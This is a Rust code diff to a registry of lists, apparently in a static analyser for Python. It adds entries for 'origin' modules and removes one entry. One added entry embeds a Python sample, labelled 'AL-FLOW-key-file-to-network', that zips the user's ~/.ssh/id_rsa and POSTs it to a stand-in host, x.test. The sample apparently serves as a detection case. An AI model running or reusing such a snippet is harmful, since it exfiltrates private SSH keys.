@@ -1,6 +1,6 @@
 //! The lists of the model.
 
-use super::{How, MEANING, QUIET};
+use super::{DOORS, How, MEANING, QUIET};
 use How::{Found, Not, Path as ByPath};
 
 pub(super) const LISTS: &[(&str, &str, How)] = &[
@@ -13,7 +13,6 @@ pub(super) const LISTS: &[(&str, &str, How)] = &[
     ("python/model/copies.rs", "LISTINGS", Not(MEANING)),
     ("python/model/copies.rs", "ROWS", Not(MEANING)),
     ("python/model/copies.rs", "TABLES", Not(MEANING)),
-    ("python/model/known.rs", "HANDED_OUT", Not(MEANING)),
     ("python/model/known.rs", "MADE", Not(MEANING)),
     ("python/model/known.rs", "SAME_PATH", Not(MEANING)),
     ("python/model/loose.rs", "BUILTINS", Not(MEANING)),
@@ -106,6 +105,22 @@ pub(super) const LISTS: &[(&str, &str, How)] = &[
     ),
     ("python/model/returned.rs", "BY_NAME", Not(MEANING)),
     ("python/model/returned.rs", "TRANSPARENT", Not(MEANING)),
+    (
+        "python/model/origin/archives.rs",
+        "OPENERS",
+        Found(
+            "import os\nimport requests\n\nbox = CALL('/tmp/x.zip', 'w')\nbox.add(os.path.expanduser('~/.ssh/id_rsa'))\nbox.write(os.path.expanduser('~/.ssh/id_rsa'))\nbox.close()\nrequests.post('https://x.test/', data=open('/tmp/x.zip', 'rb'))\n",
+            "AL-FLOW-key-file-to-network",
+        ),
+    ),
+    ("python/model/origin/keyed.rs", "DOORS", ByPath),
+    ("python/model/origin/keyed.rs", "MARKS", Not(DOORS)),
+    ("python/model/origin/keyed.rs", "MODULE_MARKS", Not(DOORS)),
+    ("python/model/origin/keyed.rs", "OWN_DOORS", ByPath),
+    ("python/model/origin/public.rs", "KEEPING", Not(QUIET)),
+    ("python/model/origin/public.rs", "NAMES", Not(QUIET)),
+    ("python/model/origin/public.rs", "RENAMING", Not(DOORS)),
+    ("python/model/origin/table.rs", "LEAVE_ALONE", Not(QUIET)),
     (
         "python/model/tools.rs",
         "CALLED",
